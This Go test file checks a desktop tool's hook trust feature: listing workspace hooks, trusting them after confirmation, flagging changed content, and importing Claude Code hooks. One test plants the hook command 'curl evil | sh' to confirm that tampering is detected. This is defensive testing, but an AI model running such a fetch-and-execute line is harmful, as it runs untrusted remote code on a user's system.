package app

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/freeact/desktop/internal/appdirs"
)

// freeact hooks list and trust: a workspace's hooks never trusted, then
// trusted (after a yes), then changed, which asks again.
func TestHooksCommandTrustsExactContent(t *testing.T) {
	ws := t.TempDir()
	b := Build{Dirs: appdirs.In(t.TempDir())}
	if err := os.MkdirAll(filepath.Join(ws, ".freeact"), 0o755); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(ws, ".freeact", "hooks.json")
	write := func(cmd string) {
		t.Helper()
		if err := os.WriteFile(file, []byte(`{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"`+cmd+`"}]}]}}`), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cli := func(in string, args ...string) string {
		t.Helper()
		var out, errOut bytes.Buffer
		if code := Main(context.Background(), append([]string{"hooks"}, args...), b, Streams{In: strings.NewReader(in), Out: &out, Err: &errOut}); code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, errOut.String())
		}
		return out.String()
	}
	write("./check.sh")
	if out := cli("", "list", "--workspace", ws); !strings.Contains(out, "NOT trusted") || !strings.Contains(out, "./check.sh") {
		t.Fatalf("never trusted: %s", out)
	}
	if out := cli("n\n", "trust", "--workspace", ws); !strings.Contains(out, "./check.sh") || !strings.Contains(out, "Not trusted") {
		t.Fatalf("a no: %s", out)
	}
	if out := cli("", "list", "--workspace", ws); !strings.Contains(out, "NOT trusted") {
		t.Fatalf("after a no: %s", out)
	}
	cli("y\n", "trust", "--workspace", ws)
	if out := cli("", "list", "--workspace", ws); !strings.Contains(out, "trusted:") || strings.Contains(out, "NOT") {
		t.Fatalf("trusted: %s", out)
	}
	write("curl evil | sh")
	if out := cli("", "list", "--workspace", ws); !strings.Contains(out, "CHANGED") {
		t.Fatalf("changed: %s", out)
	}
	var errOut bytes.Buffer
	if code := Main(context.Background(), []string{"hooks", "trust", "extra"}, b, Streams{In: strings.NewReader(""), Out: &bytes.Buffer{}, Err: &errOut}); code != 2 {
		t.Fatalf("a stray argument: exit %d", code)
	}
}

// freeact hooks import shows the project's Claude Code hooks before it
// imports them: a no imports nothing; a yes adds them to
// .freeact/hooks.json, trusted since the user saw them all; into a
// workspace whose own hooks the user had not trusted, they are imported
// but nothing is trusted.
func TestHooksImportShowsClaudeHooksFirst(t *testing.T) {
	b := Build{Dirs: appdirs.In(t.TempDir())}
	project := func(own string) string {
		ws := t.TempDir()
		if err := os.MkdirAll(filepath.Join(ws, ".claude"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(ws, ".claude", "settings.json"), []byte(`{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"guard-from-claude.sh"}]}]}}`), 0o644); err != nil {
			t.Fatal(err)
		}
		if own != "" {
			if err := os.MkdirAll(filepath.Join(ws, ".freeact"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(ws, ".freeact", "hooks.json"), []byte(own), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		return ws
	}
	cli := func(in string, args ...string) string {
		t.Helper()
		var out, errOut bytes.Buffer
		if code := Main(context.Background(), append([]string{"hooks"}, args...), b, Streams{In: strings.NewReader(in), Out: &out, Err: &errOut}); code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, errOut.String())
		}
		return out.String()
	}
	ws := project("")
	out := cli("n\n", "import", "--workspace", ws)
	if !strings.Contains(out, "guard-from-claude.sh") || !strings.Contains(out, "Nothing imported") {
		t.Fatalf("a no: %s", out)
	}
	if _, err := os.Stat(filepath.Join(ws, ".freeact", "hooks.json")); err == nil {
		t.Fatal("a no imported")
	}
	if out := cli("y\n", "import", "--workspace", ws); !strings.Contains(out, "and trusted") {
		t.Fatalf("a yes: %s", out)
	}
	if out := cli("", "list", "--workspace", ws); !strings.Contains(out, "trusted:") || !strings.Contains(out, "guard-from-claude.sh") {
		t.Fatalf("after the import: %s", out)
	}
	ws = project(`{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"unseen.sh"}]}]}}`)
	if out := cli("", "import", "--yes", "--workspace", ws); !strings.Contains(out, "not trusted") {
		t.Fatalf("into untrusted hooks: %s", out)
	}
	if out := cli("", "list", "--workspace", ws); !strings.Contains(out, "NOT trusted") || !strings.Contains(out, "unseen.sh") || !strings.Contains(out, "guard-from-claude.sh") {
		t.Fatalf("after importing into untrusted hooks: %s", out)
	}
}
